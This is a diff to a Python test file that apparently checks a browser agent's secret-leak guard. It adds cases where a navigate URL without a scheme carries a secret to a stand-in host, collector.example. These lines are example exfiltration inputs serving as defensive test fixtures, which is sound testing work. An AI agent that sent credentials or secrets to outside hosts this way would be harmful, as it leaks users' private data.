@@ -38,6 +38,8 @@ def test_only_urls_of_other_hosts_reach_python(url: str, handed_to_python: bool)
      "collector.example"),
     ({"navigate": {"url": "http://127.0.0.1/search?code=<secret>pw</secret>"}}, "http://127.0.0.1/", None),
     ({"navigate": {"url": "http://collector.example/"}}, "http://127.0.0.1/", None),  # no secret: the route decides
+    ({"navigate": {"url": "127.0.0.1:8000/?q=<secret>pw</secret>"}}, "http://127.0.0.1/", None),  # no scheme
+    ({"navigate": {"url": "collector.example/?q=<secret>pw</secret>"}}, "http://127.0.0.1/", "collector.example"),
     ({"input": {"index": 3, "text": "<secret>pw</secret>"}}, "http://127.0.0.1/login", None),
     ({"input": {"index": 3, "text": "<secret>pw</secret>"}}, "http://collector.example/login", "collector.example"),
     ({"write_file": {"file_name": "x.txt", "content": "<secret>pw</secret>"}}, "http://127.0.0.1/", "the write_file action"),
